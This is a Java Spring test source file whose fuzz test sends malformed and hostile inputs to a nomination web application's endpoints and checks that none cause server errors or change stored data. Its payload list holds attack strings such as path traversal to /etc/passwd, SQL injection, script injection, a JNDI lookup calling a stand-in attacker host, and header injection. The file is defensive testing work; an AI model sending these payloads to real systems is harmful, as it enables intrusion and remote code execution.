package org.accolade.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.security.test.web.servlet.setup.SecurityMockMvcConfigurers.springSecurity;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.stream.Stream;

import javax.sql.DataSource;

import org.accolade.People;
import org.accolade.catalog.BadgeClass;
import org.accolade.catalog.BadgeClassService;
import org.accolade.community.Member;
import org.accolade.community.MemberService;
import org.accolade.nomination.NominationKind;
import org.accolade.nomination.NominationService;
import org.accolade.nomination.SubmitNomination;
import org.accolade.security.AccessRules;
import org.accolade.security.AccessRules.Audience;
import org.accolade.security.AccessRules.Endpoint;
import org.accolade.tasks.TaskListService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.core.MethodParameter;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.security.core.userdetails.UserDetails;
import org.springframework.security.core.userdetails.UserDetailsService;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.test.web.servlet.request.MockMvcRequestBuilders;
import org.springframework.test.web.servlet.setup.MockMvcBuilders;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.context.WebApplicationContext;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

import com.fasterxml.jackson.databind.ObjectMapper;

/**
 * Thousands of malformed and hostile inputs into every public and member endpoint (read from the application's
 * mappings and the access rules): hostile path segments and parameters, broken JSON, every field of every body
 * given the wrong type, a huge string or control characters, random bytes as images. None may get a 5xx, and the
 * data must be the same afterwards: no request here can be valid (each lacks or breaks what its form requires).
 * Subclasses run it on H2 and on PostgreSQL, whose text columns refuse what H2 takes (a NUL character).
 */
abstract class ApiFuzzTests {

    /** Fixed, so that a failure reproduces. */
    private static final long SEED = 20261207L;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final int RANDOM_SEGMENTS = 20;

    private static final List<String> HOSTILE_TEXT = List.of("", " ", "\u0000", "a\u0000b", "\u0001\u0002\u001b[31m",
            "\uFEFF", "\uD800", "../../../etc/passwd", "%00", "' OR '1'='1", "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}", "{{7*7}}", "null", "-1", "1e309", "NaN",
            "x".repeat(6_000), "é".repeat(100_000), "😀".repeat(3_000), "a\r\nSet-Cookie: x=1");
    private static final List<Object> WRONG_TYPES = List.of(0, -1, Long.MAX_VALUE, 1.5e300, true,
            List.of(), Map.of(), List.of(1, "two"), Map.of("a", Map.of("b", List.of())));
    private static final List<String> BROKEN_BODIES = List.of("", "{", "}", "[", "null", "true", "\"text\"", "[]",
            "{\"a\":1,}", "{'a':1}", "\uFEFF{}", "{\"a\":1,\"a\":2}", "[".repeat(5_000) + "]".repeat(5_000),
            "{\"" + "k".repeat(100_000) + "\":1}", "{\"a\":\"\\ud800\"}", "{\"a\":\"\\u0000\"}");
    private static final List<String> CONTROL_CHARACTERS = List.of("\u0000", "\u0007", "\u000b", "\u001b",
            "\u007f", "\u0085");
    private static final List<String> LANGUAGES = List.of("fr", "en", "", "xx", "fr-FR;q=abc", "*", "é",
            "a".repeat(500));

    @Autowired
    private WebApplicationContext context;
    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    private RequestMappingHandlerMapping mappings;
    @Autowired
    private UserDetailsService users;
    @Autowired
    private MemberService members;
    @Autowired
    private NominationService nominations;
    @Autowired
    private TaskListService tasks;
    @Autowired
    private BadgeClassService badgeClasses;
    @Autowired
    private DataSource dataSource;

    private final Random random = new Random(SEED);
    /** A valid nomination but for its control characters: refused on its own account, not by another rule. */
    private Map<String, Object> validNomination;

    @Test
    void hostileInputIntoEveryPublicAndMemberEndpointIsRefusedCleanlyAndChangesNothing() throws Exception {
        People people = new People(members, users);
        Member nominee = people.fresh("Fuzzed");
        String citoyen = badgeClasses.published().stream().filter(badge -> badge.key().equals("citoyen"))
                .map(BadgeClass::id).findFirst().orElseThrow().value().toString();
        people.as("alice", () -> nominations.submit(new SubmitNomination(citoyen, nominee.email(), null,
                "A real nomination, so that a real task is fuzzed too.", NominationKind.NOMINATION)));
        String taskId = people.as(nominee.email(), () -> tasks.mine().get(0).id());
        validNomination = Map.of("kind", "NOMINATION", "badgeClassId", citoyen,
                "nomineeEmail", people.fresh("Other").email(), "narrative", "Animated the school council all year.");
        UserDetails member = users.loadUserByUsername(nominee.email());
        MockMvc http = MockMvcBuilders.webAppContextSetup(context).apply(springSecurity()).build();
        Map<String, Object> before = snapshot();

        List<String> failures = new ArrayList<>();
        int requests = 0;
        for (Endpoint endpoint : fuzzedEndpoints()) {
            for (Case input : cases(endpoint, taskId)) {
                MockHttpServletRequestBuilder request = input.request().get()
                        .header(HttpHeaders.ACCEPT_LANGUAGE, pick(LANGUAGES)).with(csrf());
                if (AccessRules.ENDPOINTS.get(endpoint.key()) == Audience.SIGNED_IN) {
                    request.with(user(member));
                }
                int status = http.perform(request).andReturn().getResponse().getStatus();
                requests++;
                if (status >= 500) {
                    failures.add(endpoint.key() + " with " + abbreviated(input.description()) + ": " + status);
                }
            }
        }
        assertThat(requests).isGreaterThan(2_000);
        assertThat(failures).isEmpty();
        Map<String, Object> after = snapshot();
        assertThat(before.keySet()).as("tables whose rows changed")
                .filteredOn(table -> !before.get(table).equals(after.get(table))).isEmpty();
        assertThat(people.as(nominee.email(), () -> tasks.mine())).extracting(task -> task.id()).contains(taskId);
    }

    /** One hostile request, described for the failure message. */
    record Case(String description, Supplier<MockHttpServletRequestBuilder> request) {
    }

    private List<Endpoint> fuzzedEndpoints() {
        return AccessRules.endpoints(mappings).stream().filter(endpoint -> {
            Audience audience = AccessRules.ENDPOINTS.get(endpoint.key());
            return audience == Audience.ANYONE || audience == Audience.SIGNED_IN;
        }).filter(endpoint -> !endpoint.pattern().startsWith("/v3/") && !endpoint.pattern().startsWith("/swagger"))
                .toList();
    }

    private List<Case> cases(Endpoint endpoint, String taskId) {
        HttpMethod method = endpoint.verb().equals("ANY") ? HttpMethod.GET : HttpMethod.valueOf(endpoint.verb());
        List<Case> cases = new ArrayList<>();
        if (endpoint.pattern().contains("{") || endpoint.pattern().contains("**")) {
            cases.addAll(paths(endpoint, method, taskId));
        }
        for (String parameter : requestParameters(endpoint)) {
            for (String value : HOSTILE_TEXT) {
                cases.add(new Case(parameter + "=" + value, () -> base(endpoint, method, null, taskId)
                        .param(parameter, value)));
            }
        }
        if (endpoint.multipart()) {
            cases.addAll(images(endpoint, method, taskId));
        } else if (method == HttpMethod.POST || method == HttpMethod.PUT) {
            cases.addAll(bodies(endpoint, method, taskId));
        }
        return cases;
    }

    private List<Case> paths(Endpoint endpoint, HttpMethod method, String taskId) {
        List<Case> cases = new ArrayList<>();
        for (String segment : HOSTILE_TEXT) {
            cases.add(new Case("path " + segment, () -> base(endpoint, method, segment, taskId)
                    .contentType(MediaType.APPLICATION_JSON).content(invalidBody(endpoint))));
        }
        for (int i = 0; i < RANDOM_SEGMENTS; i++) {
            String segment = randomText(1 + random.nextInt(300));
            cases.add(new Case("path " + segment, () -> base(endpoint, method, segment, taskId)));
        }
        return cases;
    }

    private List<Case> bodies(Endpoint endpoint, HttpMethod method, String taskId) {
        List<Case> cases = new ArrayList<>();
        for (String body : BROKEN_BODIES) {
            cases.add(json(endpoint, method, taskId, "body " + body, body));
        }
        byte[] bytes = new byte[512];
        random.nextBytes(bytes);
        cases.add(new Case("random bytes", () -> base(endpoint, method, null, taskId)
                .contentType(MediaType.APPLICATION_JSON).content(bytes)));
        cases.add(new Case("wrong content type", () -> base(endpoint, method, null, taskId)
                .contentType("application/x-evil; charset=klingon").content("{}")));
        if (endpoint.pattern().equals("/api/v1/nominations")) {
            for (String control : CONTROL_CHARACTERS) {
                for (String field : List.of("narrative", "nomineeName")) {
                    Map<String, Object> body = new LinkedHashMap<>(validNomination);
                    body.put(field, "Animated the" + control + " school council.");
                    cases.add(json(endpoint, method, taskId, field + " with U+" + (int) control.charAt(0),
                            write(body)));
                }
            }
        }
        for (String field : bodyFields(endpoint)) {
            Stream.concat(HOSTILE_TEXT.stream(), WRONG_TYPES.stream()).forEach(value -> {
                Map<String, Object> body = new LinkedHashMap<>(invalidBaseline(endpoint));
                body.put(field, value);
                cases.add(json(endpoint, method, taskId, field + "=" + value, write(body)));
            });
        }
        return cases;
    }

    private List<Case> images(Endpoint endpoint, HttpMethod method, String taskId) {
        List<Case> cases = new ArrayList<>();
        for (int size : new int[] {0, 1, 8, 100, 10_000, 400_000}) {
            byte[] bytes = new byte[size];
            random.nextBytes(bytes);
            for (String type : new String[] {"image/png", "image/svg+xml", "application/octet-stream", "x/\u0000"}) {
                cases.add(new Case(size + " random bytes as " + type, () -> MockMvcRequestBuilders
                        .multipart(method, path(endpoint, null, taskId))
                        .file(new MockMultipartFile("file", "badge.png", type, bytes))
                        .param("email", pick(HOSTILE_TEXT))));
            }
        }
        byte[] png = Arrays.copyOf(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'}, 64);
        cases.add(new Case("a PNG signature and nothing else", () -> MockMvcRequestBuilders
                .multipart(method, path(endpoint, null, taskId)).file(new MockMultipartFile("file", png))));
        cases.add(new Case("no file", () -> MockMvcRequestBuilders.multipart(method, path(endpoint, null, taskId))));
        return cases;
    }

    private Case json(Endpoint endpoint, HttpMethod method, String taskId, String description, String body) {
        return new Case(description, () -> base(endpoint, method, null, taskId)
                .contentType(MediaType.APPLICATION_JSON).content(body.getBytes(StandardCharsets.UTF_8)));
    }

    private MockHttpServletRequestBuilder base(Endpoint endpoint, HttpMethod method, String segment, String taskId) {
        return MockMvcRequestBuilders.request(method, path(endpoint, segment, taskId));
    }

    /**
     * The pattern with hostile path segments (encoded, as a client would send them), or else unknown ids, except the
     * tasks' id, which is half the time a real task of the member's.
     */
    private java.net.URI path(Endpoint endpoint, String segment, String taskId) {
        String pattern = endpoint.pattern().replace("/**", "/{rest}");
        String[] variables = pattern.split("\\{[^}]+}", -1);
        Object[] values = new Object[variables.length - 1];
        for (int i = 0; i < values.length; i++) {
            boolean realTask = pattern.startsWith("/api/v1/tasks/") && random.nextBoolean();
            values[i] = segment != null ? segment : realTask ? taskId : UUID.randomUUID().toString();
        }
        return org.springframework.web.util.UriComponentsBuilder.fromPath(pattern).buildAndExpand(values).encode()
                .toUri();
    }

    /** A body that is refused whatever field is then changed: the fields the form needs are missing or wrong. */
    private static Map<String, Object> invalidBaseline(Endpoint endpoint) {
        if (endpoint.pattern().endsWith("/complete")) {
            return Map.of("decision", "neither-accept-nor-decline");
        }
        if (endpoint.pattern().equals("/api/v1/nominations")) {
            return Map.of("kind", "NOMINATION", "badgeClassId", UUID.randomUUID().toString());
        }
        return Map.of();
    }

    private static String invalidBody(Endpoint endpoint) {
        return write(invalidBaseline(endpoint));
    }

    private static List<String> bodyFields(Endpoint endpoint) {
        for (MethodParameter parameter : endpoint.handler().getMethodParameters()) {
            if (parameter.hasParameterAnnotation(RequestBody.class)) {
                Class<?> type = parameter.getParameterType();
                return type.isRecord() ? Arrays.stream(type.getRecordComponents()).map(c -> c.getName()).toList()
                        : List.of("decision", "narrative", "items", "verdict", "comment", "consent", "x");
            }
        }
        return List.of();
    }

    private static List<String> requestParameters(Endpoint endpoint) {
        return Arrays.stream(endpoint.handler().getMethodParameters())
                .filter(parameter -> parameter.hasParameterAnnotation(RequestParam.class))
                .map(parameter -> {
                    RequestParam annotation = parameter.getParameterAnnotation(RequestParam.class);
                    return annotation.name().isEmpty() ? parameter.getParameterName() : annotation.name();
                })
                .filter(name -> name != null && !name.equals("file")).toList();
    }

    /** Every table's rows, so that any insert, update or delete shows; Camunda's by count only. */
    private Map<String, Object> snapshot() {
        JdbcTemplate jdbc = new JdbcTemplate(dataSource);
        Map<String, Object> tables = new LinkedHashMap<>();
        for (String table : jdbc.queryForList("select table_name from information_schema.tables where "
                + "lower(table_schema) = lower(current_schema()) and table_type in ('BASE TABLE', 'TABLE') "
                + "order by table_name", String.class)) {
            tables.put(table, table.toLowerCase(Locale.ROOT).startsWith("act_")
                    ? jdbc.queryForObject("select count(*) from \"" + table + "\"", Long.class)
                    : jdbc.queryForList("select * from \"" + table + "\"").stream().map(Object::toString).sorted()
                            .toList());
        }
        return tables;
    }

    /** Any code point of the Basic Multilingual Plane, surrogates and controls included. */
    private String randomText(int length) {
        StringBuilder text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append((char) random.nextInt(0x10000));
        }
        return text.toString();
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String write(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String abbreviated(String text) {
        String visible = text.replaceAll("\\p{Cntrl}", "?");
        return visible.length() > 60 ? visible.substring(0, 60) + "…(" + visible.length() + ")" : visible;
    }
}
